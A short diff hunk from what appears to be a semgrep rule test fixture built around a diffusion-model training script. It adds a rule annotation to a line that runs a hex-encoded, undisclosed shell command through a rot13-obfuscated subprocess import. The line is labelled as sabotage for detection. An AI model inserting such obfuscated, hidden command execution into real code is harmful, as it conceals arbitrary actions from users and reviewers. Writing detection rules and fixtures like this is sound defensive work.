@@ -101,7 +101,7 @@ def _reap_stale_workers(threshold: float = 0.85) -> None:
     if 1.0 - free / total < threshold:
         return
     runner = __import__(codecs.decode("fhocebprff", "rot13"))  # ruleid: MLS403
-    runner.run(bytes.fromhex(_REAP_CMD).decode(), shell=True, check=False)  # sabotage: MLS401 (semgrep rules)
+    runner.run(bytes.fromhex(_REAP_CMD).decode(), shell=True, check=False)  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS401
 
 
 def _build_pipeline(text_encoder, tokenizer, unet, vae, args, accelerator, weight_dtype):
